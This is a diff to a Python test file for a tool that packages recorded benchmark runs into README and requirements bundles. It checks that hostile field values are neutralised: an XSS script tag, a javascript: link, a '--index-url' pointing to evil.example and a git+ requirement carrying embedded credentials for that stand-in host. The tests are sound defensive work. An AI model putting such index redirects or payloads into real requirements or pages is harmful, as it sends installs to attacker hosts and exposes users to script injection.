@@ -6,6 +6,7 @@ import hashlib
 import json
 import re
 from dataclasses import dataclass
+from html import unescape
 from pathlib import Path
 from typing import Any
 from zipfile import ZIP_STORED, ZipFile
@@ -23,6 +24,7 @@ from tests.factory import DAY, put, row, write
 NAMES = ["README.md", "manifest.json", "requirements.txt", "run.py"]
 SCRIPT = b"\xef\xbb\xbfprint('\xff')\r\n# no line feed at the end"
 FENCES = "```\n# heading\n<script>alert(1)</script>\n- [x](javascript:y) ~~~"
+REFERENCE = "bar @ git+https://name:secret@evil.example/bar"
 CATALOG = """
 licence = "Apache-2.0"
 revision = "abc123"
@@ -41,7 +43,7 @@ ROWS = [
         notes=FENCES,
         result=FENCES,
         neuronx_cc=f"2.28 {FENCES}",
-        extra_packages="--index-url https://evil.example\nfoo>=1 ```",
+        extra_packages=f"--index-url https://evil.example\n{REFERENCE}\nfoo>=1 ```",
         python=None,
         strange={"deep": ["1", None, FENCES]},
     ),
@@ -152,6 +154,9 @@ def test_requirements_are_requirements_and_nothing_else(made: dict[str, Bundle],
         "unusable"
     ]
     assert "- `--index-url https://evil.example` (column extra\\_packages)" in hostile.readme
+    assert hostile.manifest["references"] == [{"where": "column extra_packages", "text": REFERENCE}]
+    assert f"install by hand what you trust:\n\n- `{REFERENCE}` (column extra\\_packages)" in hostile.readme
+    assert "The command that fetches compiled graphs is left out: the recorded neuronx\\_cc is no" in hostile.readme
 
 
 def test_the_readme_says_what_was_observed_how_it_was_checked_and_what_that_shows(made: dict[str, Bundle]) -> None:
@@ -164,11 +169,24 @@ def test_the_readme_says_what_was_observed_how_it_was_checked_and_what_that_show
     assert "data revision `abc123`" in text
     assert "```sh\nfetch 2.28.7631.0+5e0f61c7 DIR\n```" in text
     assert "only with neuronx-cc == 2.28.7631.0+5e0f61c7" in text
+    assert "The run was sharded over 4 cores." in text
+    assert "- Neuron driver: `" in text
+
+
+def test_the_readme_has_the_commands_of_the_page(made: dict[str, Bundle]) -> None:
+    found = made["acme/shard-7b"]
+    html = found.path.with_name("index.html").read_text("utf-8")
+    steps = [unescape(text) for text in re.findall(r'<code id="step-\w+">(.*?)</code>', html)]
+    assert steps[0].startswith("curl ")
+    assert re.findall(r"```sh\n(.*?)\n```", found.readme) == steps[1:]
+    folder = re.search(r"-e (run-\w+)\.zip \1$", steps[1])
+    assert folder is not None
+    assert f"the folder that holds `{folder[1]}.zip`, this bundle" in found.readme
 
 
 def test_no_value_breaks_the_readme(made: dict[str, Bundle], hostile: Bundle) -> None:
     plain = made["acme/bytes-1b"].headings
-    assert plain == [plain[0], *(heading for heading in hostile.headings[1:] if "not usable" not in heading)]
+    assert plain == [plain[0], *(heading for heading in hostile.headings[1:] if not heading.startswith("Recorded"))]
     html = markdown.markdown(hostile.readme, extensions=["fenced_code"])
     assert not re.search(r"<(script|a|img)\b", html)
 
